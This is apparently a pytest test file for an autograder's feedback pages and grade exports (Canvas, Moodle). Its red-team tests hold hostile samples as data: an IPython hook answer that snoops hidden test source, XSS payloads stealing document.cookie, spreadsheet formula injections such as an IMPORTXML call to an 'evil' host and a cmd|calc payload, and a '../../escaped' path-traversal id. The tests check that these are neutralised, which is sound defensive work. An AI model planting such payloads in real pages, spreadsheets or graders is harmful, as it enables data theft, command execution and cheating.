"""feedback and export on a graded fixture class.

The class is graded here by `simulate_grade`: it runs the solution notebook (hidden tests included)
with a student's answers in a real kernel and writes the results JSON and the autograded notebook
exactly as the workspace contract says, so these tests do not depend on `grade`'s sandbox. The
end-to-end run through `grade` is in test_postgres.py and the demo.
"""
from __future__ import annotations

import csv
import html
import json
import shutil
from pathlib import Path

import nbformat
import pytest
from nbclient import NotebookClient

from autograder import cli
from autograder.course import Course
from autograder.examples import solution_body
from autograder.export import export, load_unit
from autograder.feedback import REDACTED, Redactor, feedback

FIXTURE = Path(__file__).parent / "fixture_course"
UNIT = "1-fixture"
NB = "01-fixture.ipynb"
HIDDEN = ["rng = np.random.default_rng(1)", "a, b = rng.normal(size=(2, 5))",
          "np.testing.assert_allclose(add(a, b), a + b)", "mean_square([1.0, -1.0, 2.0])",
          "BEGIN HIDDEN TESTS", "np.asarray(a) + np.asarray(b)", "float((x ** 2).mean())"]

# A hostile answer: an IPython pre_run_cell hook records each cell's source before it runs, and
# `add` raises it (raw and repr'd) -- so the hidden test cell's own source lands in the error.
HOOK_ANSWER = '''
_seen = {}
def _spy(info):
    _seen["src"] = info.raw_cell
get_ipython().events.register("pre_run_cell", _spy)
def add(a, b):
    src = _seen.get("src", "")
    raise ValueError("I saw:\\n" + src + "\\nand as repr: " + repr(src))
'''
WRONG_MEAN_SQUARE = "def mean_square(x):\n    x = np.asarray(x, dtype=float)\n    return float(x.mean() ** 2)\n"


def simulate_grade(course: Course, sid: str, answers: dict[str, str], timestamp: str) -> dict:
    """Grade one submission the way `grade` does (solution notebook + the student's answers)."""
    nb = nbformat.read(course.solutions / UNIT / NB, as_version=4)
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("solution"):
            cell.source = answers.get(meta["grade_id"], solution_body(cell.source))
    NotebookClient(nb, timeout=60, kernel_name="python3", allow_errors=True).execute()
    scores = {}
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade"):
            err = next((o for o in cell.outputs if o.output_type == "error"), None)
            scores[meta["grade_id"]] = {"points": 0.0 if err else float(meta["points"]),
                                        "max_points": float(meta["points"]), "passed": err is None,
                                        "error": f"{err.ename}: {err.evalue}" if err else ""}
    result = {"student": sid, "unit": UNIT, "notebook": NB, "state": "graded", "reason": "",
              "submission_sha256": "0" * 64, "source_sha256": "1" * 64, "timestamp": timestamp,
              "seconds": 1.0, "scores": scores, "total": sum(s["points"] for s in scores.values()),
              "max_total": sum(s["max_points"] for s in scores.values())}
    write_result(course, result)
    out = course.workspace / "autograded" / sid / UNIT / NB
    out.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, out)
    return result


def write_result(course: Course, result: dict) -> None:
    path = course.workspace / "results" / UNIT / result["student"] / f"{Path(result['notebook']).stem}.json"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(result))


def not_run(course: Course, sid: str, state: str, reason: str, timestamp: str) -> None:
    scores = {gid: {"points": 0.0, "max_points": pts, "passed": False, "error": f"not run: {state}"}
              for gid, pts in (("test_add", 1.0), ("test_mean_square", 2.0))}
    write_result(course, {"student": sid, "unit": UNIT, "notebook": NB, "state": state, "reason": reason,
                          "submission_sha256": "", "source_sha256": "", "timestamp": timestamp, "seconds": 0.0,
                          "scores": scores, "total": 0.0, "max_total": 3.0})


def write_manifest(course: Course, due: str | None, students: dict[str, tuple[str, bool]], roster=None) -> None:
    m = {"unit": UNIT, "students": {sid: {"files": {NB: {"source": f"archive/{UNIT}/x/{sid}/{NB}", "sha256": "0",
                                                         "timestamp": ts, "late": late}}}
                                    for sid, (ts, late) in students.items()},
         "unmatched": [], "duplicates": [], "extra_files": []}
    if due:
        m["due"] = due
    if roster:
        m["roster"] = roster
    path = course.workspace / "collect" / f"{UNIT}.json"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(m))


@pytest.fixture(scope="module")
def graded(tmp_path_factory) -> Course:
    """A fixture class: perfect, a wrong hidden-test answer, the hook snooper, a timed-out one."""
    root = tmp_path_factory.mktemp("course")
    shutil.copytree(FIXTURE / "solutions", root / "solutions")
    course = Course.at(root)
    write_manifest(course, "2025-03-01T12:00:00+00:00", {
        "perfect": ("2025-03-01T11:00:00+00:00", False),
        "wrong": ("2025-03-02T13:00:00+00:00", True),  # 25 h late: 2 started days
        "hook": ("2025-03-01T10:00:00+00:00", False),
        "loop": ("2025-03-01T10:00:00+00:00", False)},
        roster={"perfect": "Pat Perfect", "wrong": "Wes Wrong", "hook": "Hal Hook", "loop": "Lou Loop",
                "absent": "Abe Absent"})
    simulate_grade(course, "perfect", {}, "2025-03-01T11:00:00+00:00")
    simulate_grade(course, "wrong", {"mean_square": WRONG_MEAN_SQUARE}, "2025-03-02T13:00:00+00:00")
    simulate_grade(course, "hook", {"add": HOOK_ANSWER}, "2025-03-01T10:00:00+00:00")
    not_run(course, "loop", "timed_out", "cell 5 ran past 60 s", "2025-03-01T10:00:00+00:00")
    return course


def page(course: Course, sid: str) -> str:
    return html.unescape((course.workspace / "feedback" / sid / UNIT / "index.html").read_text())


def test_feedback_redacts_hidden_tests_from_messages_and_tracebacks(graded):
    written = feedback(graded, UNIT)
    assert sorted(p.parts[-3] for p in written) == ["hook", "loop", "perfect", "wrong"]  # not "absent"
    # the failures really carry hidden source before redaction (else this test proves nothing)
    raw = json.loads((graded.workspace / "results" / UNIT / "hook" / "01-fixture.json").read_text())
    assert "default_rng(1)" in raw["scores"]["test_add"]["error"]
    assert "default_rng(1)" in (graded.workspace / "autograded" / "hook" / UNIT / NB).read_text()
    for sid in ("perfect", "wrong", "hook", "loop"):
        text = page(graded, sid)
        for secret in HIDDEN:
            assert secret not in text, (sid, secret)
    wrong = page(graded, "wrong")
    assert "AssertionError: negative entries must count positively" in wrong  # the teaching message stays
    assert "1 / 3" in wrong and "test_mean_square" in wrong and "failed" in wrong
    assert REDACTED in wrong  # the traceback's hidden assert line
    hook = page(graded, "hook")
    assert "ValueError: I saw:" in hook and REDACTED in hook
    assert 'add(1, 2) should be 3' in hook  # visible test lines are not hidden
    assert "timed out: cell 5 ran past 60 s" in page(graded, "loop")
    perfect = page(graded, "perfect")
    assert "3 / 3" in perfect and ">failed<" not in perfect and perfect.count(">passed<") == 2


def test_redactor_handles_escapes_whitespace_and_listings():
    r = Redactor({"    assert secret_fn(x) == 42, 'nope'", "y = 1"})
    assert r.redact("Traceback\n----> 3 y = 1\nmore") == f"Traceback\n{REDACTED}\nmore"
    assert r.redact("ValueError: 'a\\n  assert  secret_fn(x)==42, \\'nope\\''") == REDACTED
    assert r.redact("x = y = 1 is fine") == "x = y = 1 is fine"  # short hidden lines only in listings
    assert r.redact("\x1b[0;31massert secret_fn(x) == 42, 'nope'\x1b[0m") == REDACTED


def test_export_grades_summary_histogram(graded):
    paths = export(graded, UNIT, late_penalty=0.1)
    rows = {r["student_id"]: r for r in csv.DictReader(paths["grades"].open())}
    assert list(rows["perfect"]) == ["student_id", "name", "01-fixture:test_add", "01-fixture:test_mean_square",
                                     "total", "max", "late_days", "late_penalty", "final", "notes"]
    assert (rows["perfect"]["name"], rows["perfect"]["total"], rows["perfect"]["final"]) == ("Pat Perfect", "3", "3")
    w = rows["wrong"]
    assert (w["01-fixture:test_add"], w["01-fixture:test_mean_square"], w["total"], w["max"]) == ("1", "0", "1", "3")
    assert (w["late_days"], w["late_penalty"], w["final"]) == ("2", "0.2", "0.8")  # 10 % per started day
    assert rows["hook"]["total"] == "2" and rows["loop"]["total"] == "0"
    assert "timed_out (cell 5 ran past 60 s)" in rows["loop"]["notes"]
    assert rows["absent"]["total"] == "0" and rows["absent"]["01-fixture:test_add"] == ""
    assert "missing" in rows["absent"]["notes"]
    summary = {r["question"]: r for r in csv.DictReader(paths["summary"].open())}
    # test_add: perfect, wrong pass; hook, loop fail -> 2/4; test_mean_square: perfect, hook pass -> 2/4
    assert (summary["01-fixture:test_add"]["passed"], summary["01-fixture:test_add"]["submissions"]) == ("2", "4")
    assert summary["01-fixture:test_add"]["pass_rate"] == "0.500"
    assert summary["01-fixture:test_mean_square"]["mean_points"] == "1.000"
    assert paths["histogram"].read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"


def test_gradebook_is_the_record(graded, tmp_path):
    """A manual score in the gradebook wins over the results JSON (export and feedback agree)."""
    from nbgrader.api import Gradebook

    from autograder.release import generate

    db_url = f"sqlite:///{tmp_path / 'gb.db'}"
    generate(graded, UNIT, tmp_path / "release", db_url=db_url)
    with Gradebook(db_url) as gb:
        gb.update_or_create_student("wrong")
        gb.update_or_create_submission(UNIT, "wrong", timestamp="2025-03-02T13:00:00")
        gb.find_grade("test_add", "01-fixture", UNIT, "wrong").auto_score = 1.0
        grade = gb.find_grade("test_mean_square", "01-fixture", UNIT, "wrong")
        grade.auto_score, grade.manual_score = 0.0, 1.5
        gb.db.commit()
    scores = load_unit(graded, UNIT, db_url=db_url)
    assert scores.source == "both"
    assert scores.students["wrong"].points["01-fixture:test_mean_square"] == 1.5
    assert scores.students["perfect"].points["01-fixture:test_mean_square"] == 2.0  # not in gradebook: results
    assert scores.students["wrong"].total == 2.5


def test_cli_export_and_feedback(graded, capsys):
    assert cli.main(["--course", str(graded.root), "export", UNIT, "--late-penalty", "0.5"]) == 0
    out = capsys.readouterr().out
    assert "01-fixture:test_add" in out and "grades.csv" in out
    assert cli.main(["--course", str(graded.root), "export", UNIT, "--late-penalty", "2"]) == 2
    assert cli.main(["--course", str(graded.root), "feedback", UNIT]) == 0
    assert "4 report(s)" in capsys.readouterr().out


def test_demo_on_fixture_course_grades_every_example(tmp_path, monkeypatch, capsys):
    """`autograder demo` end to end (check, examples, collect, real sandboxed grade, export,
    feedback) on the fixture course, with a short per-cell limit so the endless loop is quick and a 1 GiB memory limit."""
    from autograder import demo
    from autograder.release import release

    shutil.copytree(FIXTURE / "solutions", tmp_path / "solutions")
    course = Course.at(tmp_path)
    release(course, UNIT)
    (course.workspace / "gradebook.db").parent.mkdir(parents=True)
    (course.workspace / "gradebook.db").write_bytes(b"the instructor's real gradebook")
    # 20 s: the endless loop ends soon enough, and a first graded cell that imports torch on a busy
    # machine is not cut short.
    monkeypatch.setattr(demo, "DEMO_TIMEOUT_CELL", 20)
    monkeypatch.setattr(demo, "DEMO_MEMORY_GIB", 1.0)  # the hog fills 1 GiB well within 10 s
    assert cli.main(["--course", str(course.root), "demo"]) == 0
    out = capsys.readouterr().out
    table = out[out.index("== 5. results"):]
    for line in ("perfect       01-fixture.ipynb  graded     3/3", "unanswered    01-fixture.ipynb  graded     0/3",
                 "partial       01-fixture.ipynb  graded     1/3", "endless-loop  01-fixture.ipynb  timed_out  0/3",
                 "invalid-json  01-fixture.ipynb  invalid    0/3", "snooper       01-fixture.ipynb  graded     3/3"):
        assert line in table, table
    # the instructor's workspace is untouched; the demo's has every product
    assert (course.workspace / "gradebook.db").read_bytes() == b"the instructor's real gradebook"
    assert sorted(p.name for p in course.workspace.iterdir()) == ["demo", "gradebook.db"]
    demo_ws = course.workspace / "demo"
    rows = {r["student_id"]: r for r in csv.DictReader((demo_ws / "exports" / UNIT / "grades.csv").open())}
    assert rows["perfect"]["total"] == "3" and rows["endless-loop"]["total"] == "0"
    for sid in rows:  # really graded, by the real grader: still no hidden source in any report
        text = html.unescape((demo_ws / "feedback" / sid / UNIT / "index.html").read_text())
        for secret in HIDDEN:
            assert secret not in text, (sid, secret)


def test_real_grader_hook_snooper_is_redacted(tmp_path):
    """The pre_run_cell hook answer, graded by the real (sandboxed) grader: the graded cells run in
    the checker, so the hook in the student's kernel never sees a test's source (only the line that
    starts the probe), and the feedback shows none of it."""
    from autograder.collect import collect
    from autograder.grade import grade_unit
    from autograder.release import generate
    from autograder.sandbox import bwrap_path

    shutil.copytree(FIXTURE / "solutions", tmp_path / "course" / "solutions")
    course = Course.at(tmp_path / "course")
    [released] = generate(course, UNIT, tmp_path / "release")
    nb = nbformat.read(released, as_version=4)
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "add":
            cell.source = HOOK_ANSWER
    (tmp_path / "class" / "hook").mkdir(parents=True)
    nbformat.write(nb, tmp_path / "class" / "hook" / NB)
    collect(course, UNIT, tmp_path / "class")
    [record] = grade_unit(course, UNIT, workers=1, timeout_cell=30, sandbox=bwrap_path() is not None, progress=False)
    assert record["state"] == "graded" and record["scores"]["test_add"]["passed"] is False
    error = record["scores"]["test_add"]["error"]
    assert "I saw:" in error and "coursekit.probe" in error and "default_rng(1)" not in error, error
    feedback(course, UNIT)
    text = page(course, "hook")
    assert "ValueError: I saw:" in text
    for secret in HIDDEN:
        assert secret not in text, secret


def test_export_csv_cells_cannot_be_formulas(tmp_path):
    """A student-controlled text cell (id, name, a note quoting an error) that starts like a
    formula is written with a leading quote in every CSV; numbers, negative ones too, stay numbers."""
    from autograder.export import NotebookResult, Question, StudentRow, UnitScores, write_exports

    course = Course.at(tmp_path)
    q = Question(NB, "=cmd|' /C calc'!A0", 1.0)
    hostile = {"=1+1": "=HYPERLINK(\"http://x\")", "+sum": "@SUM(A1)", "-evil": "\tname", "@at": "\rname"}
    students = {}
    for sid, name in hostile.items():
        row = StudentRow(sid, name, notebooks={NB: NotebookResult("crashed", "-2+3 boom")})
        row.points, row.total, row.max_total, row.final = {q.key: -1.0}, -1.0, 1.0, -1.5
        row.late_penalty, row.notes = 0.5, ["=2*3 in a note"]
        students[sid] = row
    paths = write_exports(course, UnitScores(UNIT, [q], students))
    rows = list(csv.reader(paths["grades"].open(newline="")))
    assert rows[0][2] == "01-fixture:=cmd|' /C calc'!A0"  # starts with a digit: not a formula
    got = {r[0]: r for r in rows[1:]}
    assert sorted(got) == ["'+sum", "'-evil", "'=1+1", "'@at"]
    assert got["'=1+1"][1] == "'=HYPERLINK(\"http://x\")" and got["'+sum"][1] == "'@SUM(A1)"
    assert got["'-evil"][1] == "'\tname" and got["'@at"][1] == "'\rname"
    assert got["'=1+1"][2:6] == ["-1", "-1", "1", "0"]  # numbers: no quote
    assert got["'=1+1"][7:] == ["-1.5", "'=2*3 in a note"]
    summary = list(csv.reader(paths["summary"].open(newline="")))
    assert summary[1][2] == "'=cmd|' /C calc'!A0"  # grade_id column
    assert summary[1][7] == "-1.000"  # mean points: a number
    for path in (paths["grades"], paths["summary"]):
        for row in csv.reader(path.open(newline="")):
            assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row), row


def _with_lms_ids(graded: Course, dest: Path) -> Course:
    """The graded class, as collected from an LMS: participant ids, and a roster with the LMS columns."""
    course = Course.at(shutil.copytree(graded.root, dest))
    path = course.workspace / "collect" / f"{UNIT}.json"
    m = json.loads(path.read_text())
    for sid, lms_id in (("perfect", "1001"), ("wrong", "1002"), ("loop", "1004")):
        m["students"][sid]["lms_id"] = lms_id  # from the LMS zip's names
    m["people"] = {"perfect": {"name": "Pat Perfect", "email": "pat@uni.example", "login": "pperfect",
                               "section": "Lab A", "sis_user_id": "S1"},
                   "hook": {"name": "=Hal Hook", "email": "hal@uni.example", "lms_id": "1003"},  # roster lms_id
                   "absent": {"name": "Abe Absent", "email": "abe@uni.example", "lms_id": "1005"}}
    path.write_text(json.dumps(m))
    return course


def test_export_canvas_gradebook_import_csv(graded, tmp_path, capsys):
    course = _with_lms_ids(graded, tmp_path / "canvas")
    args = ["--course", str(course.root), "export", UNIT, "--format", "canvas", "--late-penalty", "0.1",
            "--assignment", "Unit 1: fixture", "--assignment-id", "4711"]
    assert cli.main(args) == 0
    path = course.workspace / "exports" / UNIT / "canvas-gradebook.csv"
    assert str(path) in capsys.readouterr().out
    rows = list(csv.reader(path.open(newline="", encoding="utf-8")))
    # Canvas's gradebook CSV: the identifying columns, then one column per assignment "Name (id)",
    # and its "Points Possible" row (as Canvas's own export writes it).
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Unit 1: fixture (4711)"]
    assert rows[1] == ["    Points Possible", "", "", "", "", "3"]
    by_login = {r[3]: r for r in rows[2:]}
    assert by_login["pperfect"] == ["Pat Perfect", "1001", "S1", "pperfect", "Lab A", "3"]
    assert by_login["wrong"] == ["Wes Wrong", "1002", "", "wrong", "", "0.8"]  # 1 point, 2 days late at 10 %
    assert by_login["hook"] == ["'=Hal Hook", "1003", "", "hook", "", "2"]  # a formula-like name is made inert
    assert by_login["loop"][1:] == ["1004", "", "loop", "", "0"]  # timed out: submitted, scored 0
    assert by_login["absent"][1:] == ["1005", "", "absent", "", ""]  # no submission: empty by default
    assert cli.main(args + ["--missing", "zero"]) == 0
    rows = list(csv.reader(path.open(newline="", encoding="utf-8")))
    assert {r[3]: r[5] for r in rows[2:]}["absent"] == "0"


def test_export_moodle_grading_worksheet(graded, tmp_path, capsys):
    course = _with_lms_ids(graded, tmp_path / "moodle")
    assert cli.main(["--course", str(course.root), "export", UNIT, "--format", "moodle", "--missing", "zero"]) == 0
    path = course.workspace / "exports" / UNIT / "moodle-grading-worksheet.csv"
    assert str(path) in capsys.readouterr().out
    rows = list(csv.reader(path.open(newline="", encoding="utf-8")))
    # Moodle's offline grading worksheet, as its "Download grading worksheet" writes it.
    assert rows[0] == ["Identifier", "Full name", "Email address", "Status", "Grade", "Maximum Grade",
                       "Grade can be changed", "Last modified (submission)", "Last modified (grade)",
                       "Feedback comments"]
    got = {r[0]: r for r in rows[1:]}
    assert got["Participant 1001"] == ["Participant 1001", "Pat Perfect", "pat@uni.example", "Submitted for grading",
                                       "3.00", "3.00", "Yes", "Saturday, 1 March 2025, 11:00 AM", "-", ""]
    assert got["Participant 1002"][4] == "1.00"  # no late penalty asked for
    assert got["Participant 1003"][1] == "'=Hal Hook"
    assert got["Participant 1005"][3:5] == ["No submission", "0.00"]  # --missing zero
    assert len(got) == 5  # every student has a participant id here


def test_export_moodle_leaves_out_students_without_participant_id(graded, tmp_path, capsys):
    course = Course.at(shutil.copytree(graded.root, tmp_path / "plain"))  # collected from a folder: no LMS ids
    assert cli.main(["--course", str(course.root), "export", UNIT, "--format", "moodle"]) == 0
    err = capsys.readouterr().err
    assert "perfect: no Moodle participant id" in err
    rows = list(csv.reader((course.workspace / "exports" / UNIT / "moodle-grading-worksheet.csv").open(newline="")))
    assert rows == [["Identifier", "Full name", "Email address", "Status", "Grade", "Maximum Grade",
                     "Grade can be changed", "Last modified (submission)", "Last modified (grade)",
                     "Feedback comments"]]


# --------------------------------------------------------------------------- hostile inputs (red team)

XSS_NAME = '<script>alert("name")</script><img src=x onerror=alert(1)> & "Bobby" \'Tables\''
XSS_ERROR = ('AssertionError: </pre></td><script>alert(document.cookie)</script>'
             '<a href="javascript:alert(1)" onclick="alert(2)">click</a>')
XSS_REASON = '"><iframe src="javascript:alert(3)"></iframe><style>body{display:none}</style>'
XSS_TRACEBACK = ["x" * 20_000 + "<script>alert('long')</script>",  # first: the 6000-char tail keeps the rest
                 "\x1b[0;31m---------------------------------------------------------------\x1b[0m",
                 "\x1b[0;31mAssertionError\x1b[0m: <svg onload=alert(4)>",
                 "<!-- comment --><base href=\"javascript:alert(5)//\"><meta http-equiv=refresh content=0;url=evil>"]
ALLOWED_TAGS = {"html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "p", "b", "table", "tr", "th",
                "td", "pre", "small"}
ALLOWED_ATTRS = {("html", "lang"), ("meta", "charset"), ("td", "class"), ("p", "class")}


class _Markup:
    """Every tag, attribute, comment and declaration of an HTML page."""

    def __init__(self, text: str):
        from html.parser import HTMLParser

        self.tags, self.attrs, self.other = [], [], []
        me = self

        class P(HTMLParser):
            def handle_starttag(self, tag, attrs):
                me.tags.append(tag)
                me.attrs.extend((tag, k, v) for k, v in attrs)

            def handle_comment(self, data):
                me.other.append(("comment", data))

            def handle_decl(self, decl):
                if decl.lower() != "doctype html":
                    me.other.append(("decl", decl))

            def handle_pi(self, data):
                me.other.append(("pi", data))

        P(convert_charrefs=True).feed(text)


@pytest.fixture
def hostile_class(tmp_path) -> Course:
    """A graded class whose names, messages, reasons, states and tracebacks all carry markup;
    built from files only (no kernel), as `grade` would have written them."""
    shutil.copytree(FIXTURE / "solutions", tmp_path / "solutions")
    course = Course.at(tmp_path)
    write_manifest(course, None, {"mallory": ("2025-03-01T11:00:00+00:00", False),
                                  "crasher": ("2025-03-01T11:00:00+00:00", False)},
                   roster={"mallory": XSS_NAME, "crasher": "javascript:alert(6)"})
    scores = {"test_add": {"points": 0.0, "max_points": 1.0, "passed": False, "error": XSS_ERROR},
              "test_mean_square": {"points": 0.0, "max_points": 2.0, "passed": False, "error": "x" * 50_000 + XSS_ERROR}}
    write_result(course, {"student": "mallory", "unit": UNIT, "notebook": NB, "state": "graded", "reason": "",
                          "timestamp": "2025-03-01T11:00:00+00:00<script>", "scores": scores, "total": 0.0,
                          "max_total": 3.0})
    write_result(course, {"student": "crasher", "unit": UNIT, "notebook": NB, "state": "<b onmouseover=alert(7)>crashed",
                          "reason": XSS_REASON, "timestamp": "2025-03-01T11:00:00+00:00", "scores": scores,
                          "total": 0.0, "max_total": 3.0})
    nb = nbformat.read(course.solutions / UNIT / NB, as_version=4)
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade"):
            cell.outputs = [nbformat.v4.new_output("error", ename="AssertionError", evalue=XSS_ERROR,
                                                   traceback=XSS_TRACEBACK)]
        elif cell.cell_type == "code":  # the student's own outputs: never shown
            cell.outputs = [nbformat.v4.new_output("display_data", data={"text/html": "<script>alert('own')</script>"}),
                            nbformat.v4.new_output("stream", name="stdout", text="<script>alert('print')</script>")]
    out = course.workspace / "autograded" / "mallory" / UNIT / NB
    out.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, out)
    return course


def test_feedback_escapes_markup_from_names_errors_reasons_and_tracebacks(hostile_class):
    """Nothing a student controls (display name, exception message, traceback, a results file's
    state/reason/time) becomes markup in the page: only the report's own tags and attributes."""
    written = feedback(hostile_class, UNIT)
    assert sorted(p.parts[-3] for p in written) == ["crasher", "mallory"]
    for path in written:
        raw = path.read_text(encoding="utf-8")
        m = _Markup(raw)
        assert set(m.tags) <= ALLOWED_TAGS, set(m.tags) - ALLOWED_TAGS
        assert {(t, k) for t, k, _v in m.attrs} <= ALLOWED_ATTRS, m.attrs
        assert not m.other, m.other
        assert all("javascript" not in (v or "") for _t, _k, v in m.attrs)
        assert m.tags.count("script") == 0 and m.tags.count("title") == 1 and m.tags.count("style") == 1
        assert "alert('own')" not in raw and "alert('print')" not in raw  # the student's own outputs
    mallory = page(hostile_class, "mallory")
    assert XSS_NAME in mallory and XSS_ERROR in mallory  # shown, as text
    assert "<svg onload=alert(4)>" in mallory and "\x1b" not in mallory
    crasher = page(hostile_class, "crasher")
    assert XSS_REASON in crasher and "javascript:alert(6)" in crasher


def test_feedback_never_writes_outside_the_feedback_folder(hostile_class):
    """A results file whose "student" field is a path ("../../escaped") -- a hand-edited or
    foreign results file, or a gradebook student id from another tool -- must not make feedback
    write a page outside grading/feedback/."""
    root = hostile_class.root
    evil = hostile_class.workspace / "results" / UNIT / "evil" / "01-fixture.json"  # where load_results looks
    evil.parent.mkdir(parents=True)
    evil.write_text(json.dumps({"student": "../../escaped", "unit": UNIT, "notebook": NB, "state": "graded",
                                "reason": "", "timestamp": "2025-03-01T11:00:00+00:00", "scores": {},
                                "total": 0.0, "max_total": 3.0}))
    before = {p for p in root.rglob("*") if p.is_file()}
    try:
        feedback(hostile_class, UNIT)
    except (ValueError, OSError) as err:  # refusing with a message is fine too
        assert "escaped" in str(err)
    new = {p for p in root.rglob("*") if p.is_file()} - before
    fb = hostile_class.workspace / "feedback"
    assert all(fb in p.parents for p in new), sorted(map(str, new))


def test_export_quotes_commas_quotes_newlines_and_keeps_non_ascii(tmp_path):
    """Names with commas, quotes, newlines, CRs and non-ASCII survive the CSV round trip exactly
    (a formula-like one only gains its leading quote), in grades.csv, Canvas's and Moodle's files."""
    from autograder.export import NotebookResult, Question, StudentRow, UnitScores, lms_export, write_exports

    course = Course.at(tmp_path)
    names = {"s1": 'Smith, "Al" \u00c5sa', "s2": "Line1\nLine2\r\n=still text", "s3": "Zo\u00eb \u00d1\u00fa\u00f1ez \u738b\u5c0f\u660e \U0001f600",
             "s4": '=IMPORTXML("http://evil/?"&A1,"//x")', "s5": "+44 20 7946 0000", "s6": "-2+3", "s7": "@cmd",
             "s8": "\t=1+1", "s9": "\r=1+1", "s10": " =1+1"}
    q = Question(NB, "test_add", 1.0)
    students = {}
    for i, (sid, name) in enumerate(names.items()):
        row = StudentRow(sid, name, notebooks={NB: NotebookResult("graded", timestamp="2025-03-01T11:00:00+00:00")})
        row.points, row.total, row.max_total, row.final = {q.key: 1.0}, 1.0, 1.0, 1.0
        students[sid] = row
    paths = write_exports(course, UnitScores(UNIT, [q], students))
    write_manifest(course, None, {}, roster=names)
    m = json.loads((course.workspace / "collect" / f"{UNIT}.json").read_text())
    m["people"] = {sid: {"name": n, "lms_id": str(1000 + i), "email": f"=x{i}@evil", "login": f"@login{i}",
                         "section": "+Lab", "sis_user_id": "-S1"} for i, (sid, n) in enumerate(names.items())}
    (course.workspace / "collect" / f"{UNIT}.json").write_text(json.dumps(m))
    canvas, _ = lms_export(course, UnitScores(UNIT, [q], students), "canvas")
    moodle, _ = lms_export(course, UnitScores(UNIT, [q], students), "moodle")

    def inert(v: str) -> str:
        return "'" + v if v.startswith(("=", "+", "-", "@", "\t", "\r")) else v

    grades = {r["student_id"]: r for r in csv.DictReader(paths["grades"].open(newline="", encoding="utf-8"))}
    canvas_rows = {r[1]: r for r in csv.reader(canvas.open(newline="", encoding="utf-8"))}
    moodle_rows = {r[0]: r for r in csv.reader(moodle.open(newline="", encoding="utf-8"))}
    for i, (sid, name) in enumerate(names.items()):
        assert grades[sid]["name"] == inert(name), (sid, grades[sid]["name"])
        c = canvas_rows[str(1000 + i)]
        assert c[:5] == [inert(name), str(1000 + i), "'-S1", f"'@login{i}", "'+Lab"], c
        mo = moodle_rows[f"Participant {1000 + i}"]
        assert mo[1:3] == [inert(name), f"'=x{i}@evil"], mo
    for path in (paths["grades"], canvas, moodle):
        raw = path.read_bytes()
        assert "\u738b\u5c0f\u660e \U0001f600".encode() in raw  # non-ASCII kept, as UTF-8
        for row in csv.reader(path.open(newline="", encoding="utf-8")):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")) and not (  # Moodle's own "-" is no formula
                    cell.startswith("-") and cell != "-" and not cell.lstrip("-").replace(".", "").isdigit()), (path.name, cell)
